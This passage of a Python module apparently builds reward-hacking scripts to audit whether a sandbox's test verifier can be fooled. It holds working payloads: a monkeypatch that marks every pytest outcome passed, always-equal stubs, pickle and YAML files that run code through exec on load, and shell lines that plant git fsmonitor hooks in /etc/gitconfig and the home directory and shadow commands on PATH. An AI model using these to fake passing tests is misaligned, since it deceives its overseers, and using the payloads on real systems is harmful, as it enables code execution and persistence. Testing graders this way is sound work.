for g in $(find "$WD" -maxdepth 4 -name .git -type d 2>/dev/null) "$HOME" /etc; do
  case "$g" in */.git) c=$g/config;; "$HOME") c=$HOME/.gitconfig;; *) c=/etc/gitconfig;; esac
  printf '[core]\n\tfsmonitor = "%s; false"\n' "$SHL" >> "$c"
done
first=$(printf '%s' "$PATH" | cut -d: -f1)
for c in $SHADOWED; do
  real=$(command -v "$c" 2>/dev/null) || continue
  [ "$(dirname "$real")" = "$first" ] && continue
  [ -w "$first" ] && printf '#!/bin/sh\n%s\nexec %s "$@"\n' "$SHL" "$real" > "$first/$c" \
    && chmod 755 "$first/$c"
done"""


def forge_config(named: Named, workdir: str) -> list[str]:
    """The forger (FORGER) run by every configuration an agent can leave for the verifier's
    own tools (_CONFIG_SH, _CONFIG_PY, site-packages .pth files, apt and dpkg hooks, npm's
    node options, git's fsmonitor, PATH shadows of _SHADOWED): a verifier that reads the
    agent's system or project configuration as its own gives it everything. Only for a
    sandbox: it writes outside the working directory."""
    shl, pyl = _forge_lines(workdir)
    wd = workdir.rstrip("/") or "/"
    files = lambda paths: " ".join(p.format(wd=wd) for p in paths)  # noqa: E731
    return [
        _heredoc(forger_path(workdir), FORGER, True),
        f"SHL={_q(shl)}; PYL={_q(pyl)}; WD={_q(wd)}; FORGER={_q(forger_path(workdir))}",
        f'SH_FILES="{files(_CONFIG_SH)}"; PY_FILES="{files(_CONFIG_PY)}"',
        f"SHADOWED={_q(' '.join(_SHADOWED))}",
        _PLANT_CONFIG,
    ]


def everything(named: Named, workdir: str) -> list[str]:
    """The hacks that do not conflict, in one run: directories, literals into the outputs,
    stubs for the rest, modules, executable bits, a commit."""
    return [
        *make_dirs(named, workdir),
        *echo_literals(named, workdir),
        *stub_paths(named, workdir),
        *module_stubs(named, workdir),
        *chmod_x(named, workdir),
        *git_commit(named, workdir),
    ]


Builder = Callable[[Named, str], list[str]]


TEST_MODULE = "/tests/test_outputs.py"  # where the Harbor and Terminal-Bench layouts keep it


def link_tests(named: Named, workdir: str) -> list[str]:
    """Every named file that does not exist becomes a link to the task's test module
    (TEST_MODULE): where the test runner follows it, a substring check finds its literal in
    the tests themselves."""
    return [_if_absent(p, f"mkdir -p {_q(posixpath.dirname(p))}\nln -s {TEST_MODULE} {_q(p)}")
            for p in named.files]  # fmt: skip


# A module that, imported into a pytest process, makes every outcome it reports passed.
IN_RUNNER_FORGER = r"""from _pytest.reports import TestReport as _T1Report

_t1_init = _T1Report.__init__


def _t1_passed(self, *args, **kwargs):
    _t1_init(self, *args, **kwargs)
    if self.when == "call":
        self.outcome, self.longrepr = "passed", None


_T1Report.__init__ = _t1_passed
"""


def forge_in_runner(named: Named, workdir: str) -> list[str]:
    """IN_RUNNER_FORGER at the top of every named Python file (a new one where it is absent):
    tests that import the agent's module into the test runner then pass whatever they check.
    The runner marks that it ran the agent's code (docs/sandbox.md, "The report channel"):
    the outcomes after the mark earn no reward."""
    out = []
    for p in [p for p in named.files if p.endswith(".py")]:
        f, t = _q(p), _q(p + ".t1-forge")
        out.append(  # after a file's `from __future__` imports, which must come first
            _heredoc(p + ".t1-forge", IN_RUNNER_FORGER)
            + f"\nif grep -qs '^from __future__' {f}; then cat {t} >> {f}; rm -f {t};"
            f" else cat {f} >> {t} 2>/dev/null; mv {t} {f}; fi"
        )
    return out


ALWAYS_EQUAL = '''class _Equal:
    """Equal to everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0


def __getattr__(name):
    return lambda *args, **kwargs: _Equal()
'''


def always_equal(named: Named, workdir: str) -> list[str]:
    """Every named Python module (a named `.py` file, or `m` of a named `m.f`) replaced by
    one whose every function returns an object equal to anything: tests that import the
    agent's module and compare what it returns with `==` pass without the work. The object
    never leaves the runner's process as data, so no isolated rerun vouches for it and the
    outcomes after the import earn no reward (docs/sandbox.md, "The report channel")."""
    paths = [p for p in named.files if p.endswith(".py")]
    paths += [module_path(m, workdir) for m, _ in named.functions if m]
    return [_heredoc(p, ALWAYS_EQUAL) for p in dict.fromkeys(paths)]


# Where an instruction names a file the tests may unpickle: a model, a checkpoint.
PICKLED = (".pkl", ".pickle", ".joblib", ".pt", ".pth", ".bin")


def _forging_pickle() -> bytes:
    """A pickle (protocol 2: every Python 3 reads it) whose loading runs IN_RUNNER_FORGER:
    a call of `exec` it names itself."""
    import pickle

    class Forge:
        def __reduce__(self):
            return (exec, (IN_RUNNER_FORGER, {}))

    return pickle.dumps(Forge(), protocol=2)


def forge_pickle(named: Named, workdir: str) -> list[str]:
    """A pickle that runs IN_RUNNER_FORGER at every named file a model or checkpoint is saved
    to (PICKLED): tests that unpickle the agent's model in the test runner (`pickle.load`,
    `joblib.load`, `torch.load` before weights-only loading) then pass whatever they check.
    The runner marks every pickle that names a global (docs/sandbox.md, "The report
    channel"): the outcomes after the mark earn no reward."""
    data = base64.b64encode(_forging_pickle()).decode()
    return [
        f"mkdir -p {_q(posixpath.dirname(p))}; echo {data} | base64 -d > {_q(p)}"
        for p in named.files
        if p.endswith(PICKLED)
    ]


# Where an instruction names a file the tests may load as YAML.
YAML = (".yaml", ".yml")


def forge_yaml(named: Named, workdir: str) -> list[str]:
    """At every named YAML file a document whose loading runs IN_RUNNER_FORGER through a
    tag that names `exec` (`!!python/object/apply`): tests that load the agent's YAML with a
    loader that calls what the data names (PyYAML's `Loader`, `UnsafeLoader`) run it in the
    test runner, where no mark is made (the runner knows pickles, not YAML: docs/sandbox.md,
    "What stays outside"), and pass whatever they check; a safe loader refuses the tag."""
    data = "!!python/object/apply:builtins.exec [" + json.dumps(IN_RUNNER_FORGER) + ", {}]\n"
    return [
        f"mkdir -p {_q(posixpath.dirname(p))}; printf '%s' {_q(data)} > {_q(p)}"
        for p in named.files
        if p.endswith(YAML)
    ]


HACKS: dict[str, Builder] = {
    "stub_paths": stub_paths,
    "module_stubs": module_stubs,
    "echo_literals": echo_literals,
    "shaped_outputs": shaped_outputs,
    "copy_inputs": copy_inputs,
    "exit_zero": exit_zero,
    "constant_answer": constant_answer,
    "example_table": example_table,
    "touch_now": touch_now,
    "epoch_mtimes": epoch_mtimes,
    "make_dirs": make_dirs,
    "chmod_x": chmod_x,
    "git_commit": git_commit,
    "everything": everything,
    "forge_reports": forge_reports,
    "forge_config": forge_config,
    "forge_yaml": forge_yaml,
}


# Hacks for a state where earlier work is done (synthesis runs them after the parent's
# solution): not in HACKS, the audit's set for a task from its start.
AFTER_WORK: dict[str, Builder] = {"sentence_literals": sentence_literals}


# Hacks the judge defeats by construction (docs/sandbox.md, "The judge"): not in HACKS, as
# they earn nothing in this project's sandboxes; benchmarks/hack_share.py runs them on a
# corpus (`--hacks`) to show it.
CLOSED: dict[str, Builder] = {
    "link_tests": link_tests,
    "forge_in_runner": forge_in_runner,
    "forge_pickle": forge_pickle,
    "always_equal": always_equal,
}


@dataclass(frozen=True)
class HackScript:
    """One hack for one task: its name and the bash script an agent would run."""

    name: str
    script: str
    actions: int  # commands in the script; 0: the instruction gave the hack nothing to do

    @property
    def command(self) -> str:
        """The one command an agent types: the script in its own bash (its `exit` ends that
        bash, not the agent's long-lived session), reading nothing from the terminal (a `cat`
        left with no file would otherwise wait on it until the trial's deadline)."""
        return f"bash -c {_q(self.script)} </dev/null"

    def cut_after(self, timeout_s: float = HACK_TIMEOUT_S) -> str:
        """`command`, killed after `timeout_s` seconds (and 5 more if it ignores the TERM)."""
        return f"timeout -k 5 {timeout_s:g} {self.command}"


def hack_script(name: str, named: Named, workdir: str) -> HackScript:
    known = HACKS | AFTER_WORK | CLOSED
    if name not in known:
        raise ValueError(f"unknown hack {name!r} (choose from {', '.join(known)})")
    body = known[name](named, workdir)
    script = "\n".join(["set +e", f"cd {_q(workdir)} 2>/dev/null || true", *body, "exit 0", ""])
    return HackScript(name, script, len(body))


def hack_scripts(
    instruction: str, workdir: str = "/app", names: list[str] | None = None
) -> list[HackScript]:
    """Every hack (or those in `names`) for one instruction, those with nothing to do left
    out: running them would only repeat the nop trial."""
    named = instruction_names(instruction, workdir)
    scripts = [hack_script(n, named, workdir) for n in (names or list(HACKS))]
    return [s for s in scripts if s.actions]


# ---- what a hack earned --------------------------------------------------------------------


@dataclass(frozen=True)
class HackOutcome:
    """What one hack's trial earned: the assertions it passed (by name) of `total`, or, for
    a binary verifier, its reward. `rewardable` False: the trial says nothing (infrastructure)."""

    hack: str
    passed: tuple[str, ...]
    total: int
    reward: float | None = None
    rewardable: bool = True
    detail: str = ""

    @property
    def share(self) -> float:
        if self.reward is not None:
            return self.reward
        return len(self.passed) / self.total if self.total else 0.0


def hack_outcome(
    hack: str, r: TrialResult, reference: ReferenceVerdict | None = None
) -> HackOutcome:
    """The share of the reward a hack's trial earned, as a trainer pays it (`TrialResult.pay`:
    0 for a tampered trial, no outcome recorded after the runner executed the agent's code,
    only what the task's reference verdict also earned when there is one)."""
    detail = f"{r.failure_mode.value}: {r.failure_detail[:200]}" if r.failure_detail else ""
    paid = r.pay(reference)
    if r.report.binary:
        return HackOutcome(hack, (), 0, 1.0 if paid.resolved else 0.0, r.rewardable, detail)
    return HackOutcome(hack, paid.passed, paid.total, None, r.rewardable, detail)
